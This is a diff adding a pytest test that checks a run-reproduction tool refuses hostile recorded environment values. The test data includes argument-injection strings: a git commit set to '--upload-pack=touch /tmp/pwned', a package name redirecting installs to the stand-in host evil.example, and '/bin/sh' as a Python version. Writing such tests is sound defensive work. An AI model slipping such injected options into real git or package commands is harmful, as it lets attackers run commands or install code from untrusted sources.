@@ -158,3 +158,21 @@ def test_a_secret_argument_is_missing_from_the_plan_and_an_outside_entry_point_n
     assert plan.command[0] == str(script)
     assert any("outside the code" in n for n in plan.notes)
     client.store.close()
+
+
+def test_recorded_values_that_would_be_options_to_git_or_uv_are_missing(tmp_path):
+    client = cairn.Client(str(tmp_path / "store"))
+    run = client.create_run()
+    root = tmp_path / "code"
+    root.mkdir()
+    env = {"python": {"version": "/bin/sh"}, "cwd": str(root),
+           "packages": {"--index-url=https://evil.example/simple": "1", "numpy": "2.0.0"},
+           "git": {"commit": "--upload-pack=touch /tmp/pwned", "root": str(root),
+                   "dirty": False, "patch": None, "untracked": {}, "skipped": []},
+           "entry_point": str(root / "train.py"), "argv": ["train.py"]}
+    plan = make_plan(client, dataclasses.replace(run, env=env))
+    text = "\n".join(plan.missing)
+    assert "is not a commit id" in text and plan.commit is None
+    assert "is not a version" in text and plan.python is None
+    assert "is not a package name and version" in text and plan.packages == {}
+    client.store.close()
